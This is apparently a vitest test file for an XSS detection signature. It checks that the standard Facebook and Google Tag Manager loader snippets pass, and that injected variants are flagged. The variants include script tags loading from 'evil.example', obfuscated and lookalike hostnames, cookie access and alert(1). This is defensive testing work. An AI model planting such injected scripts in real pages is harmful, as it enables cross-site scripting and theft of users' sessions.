import { expect, test } from 'vitest';
import { xss } from '../../../src/attacks/signatures/xss.ts';
import { foundIn, jsonBody } from '../found-in.ts';

const inPage = (code: string): readonly string[] =>
  foundIn(xss, jsonBody({ content: `<div id="a"></div>\n<script>${code}</script>` }));

const SDK =
  "(function(d, s, id) { var js, f = d.getElementsByTagName(s)[0]; js = d.createElement(s); js.id = id; js.src = 'https://connect.facebook.net/en_US/sdk.js#xfbml=1'; f.parentNode.insertBefore(js, f); }(document, 'script', 'sdk'));";

test.each([
  SDK,
  "(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({event:'gtm.js'});var f=d.getElementsByTagName(s)[0],j=d.createElement(s),dl=l!='dataLayer'?'&l='+l:'';j.async=true;j.src='https://www.googletagmanager.com/gtm.js?id='+i+dl;f.parentNode.insertBefore(j,f);})(window,document,'script','dataLayer','GTM-1');",
  "!function(f,b,e,v,t,s){t=b.createElement(e);t.async=!0;t.src=v;s=b.getElementsByTagName(e)[0];s.parentNode.insertBefore(t,s)}(window,document,'script','https://connect.facebook.net/en_US/fbevents.js');fbq('init','1');",
])('the snippet that a well-known host gives for its script is no attack: %s', (code) => {
  expect(inPage(code)).toEqual([]);
});

test.each([
  "var s=document.createElement('script');s.src='//evil.example/x.js';document.body.appendChild(s)",
  "s.src='//e'+'vil.example/x.js'",
  "s.src='https:'+'/'+'/evil.example/x'",
  "s.src='https://connect.facebook.net.evil.example/a.js'",
  "s.src='https://connect.facebook.net@evil.example/a.js'",
  "s.src='https://connect.facebook.net'+'.evil.example/a.js'",
  "s.text='x()'",
  's.src=document.body.id',
  's.src=d.referrer',
  "s.src='a'+d.baseURI",
  'var v=d.body.lang;s.src=v',
  's.src=f(1)',
  "location='https://connect.facebook.net/x'",
  'x(document.cookie)',
  "d.createElement('img').onerror='x'",
  "document.title='x'",
  'alert(1)',
])('one that adds more, or from elsewhere, is: %s', (code) => {
  expect(inPage(`${SDK}\n${code}`)).not.toEqual([]);
  expect(inPage(`${code};\n${SDK}`)).not.toEqual([]);
});
